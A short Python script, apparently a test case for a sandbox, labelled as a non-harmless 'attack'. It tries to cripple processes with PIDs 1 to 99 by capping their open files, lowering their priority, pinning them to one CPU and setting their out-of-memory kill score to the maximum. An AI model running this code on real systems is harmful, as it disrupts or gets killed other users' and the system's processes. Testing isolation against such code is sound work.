# attack: limits, priority, affinity and chances to be killed of other processes are set
# harmless: no
import os
import resource

for pid in range(1, 100):
    for attempt in (
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setaffinity(pid, {0}),
        lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"),
    ):
        if pid != os.getpid():
            try:
                attempt()
                print("changed", pid)
            except (OSError, ValueError):
                pass
resource.setrlimit(resource.RLIMIT_NOFILE, (40, 40))
